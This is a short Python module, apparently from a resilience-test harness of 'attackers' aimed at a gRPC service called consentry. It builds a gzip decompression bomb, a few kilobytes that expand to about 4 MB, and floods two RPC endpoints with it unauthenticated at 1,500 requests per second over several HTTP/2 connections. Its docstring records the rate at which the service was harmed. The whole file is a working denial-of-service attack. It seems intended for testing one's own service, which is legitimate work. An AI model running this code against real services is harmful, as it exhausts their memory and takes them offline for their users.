"""Messages of 4 kB that are 4 MB once they are taken apart, from nobody: without a credential, as fast as they are taken.

What was seen to do harm: 150 a second, of which a thousand were kept while they waited to be turned away.
"""

import asyncio
import zlib
from collections import Counter

from support.attackers import Order
from support.attackers._http2 import Connection, framed, request_headers

PATHS = ("/consentry.authority.v1.CoverageService/ListCoveredCustomers", "/consentry.devices.v1.InventoryService/ListDevices")
CONNECTIONS = 8
PER_SECOND = 1_500
_SIZE = 4 * 1024 * 1024 - 1024


async def attack(order: Order, over: asyncio.Event) -> Counter[str]:
    """See `support.attackers`."""
    answers: Counter[str] = Counter()
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = framed(packer.compress(bytes(_SIZE)) + packer.flush(), compressed=True)

    async def keep_on(address: str, path: str) -> None:
        headers = request_headers(path, encoding="gzip")
        pause = CONNECTIONS / (PER_SECOND * order.times)
        while not over.is_set():
            connection = await Connection.open(address, answers)
            while connection is not None and not connection.over and not over.is_set():
                await connection.send(connection.begin(headers), bomb)
                await asyncio.sleep(pause)
            if connection is not None:
                await connection.close()
            await asyncio.sleep(pause)

    async with asyncio.TaskGroup() as group:
        for address, path in zip((order.authority, order.devices), PATHS, strict=True):
            for _ in range(CONNECTIONS if address else 0):
                group.create_task(keep_on(address, path))
    return answers
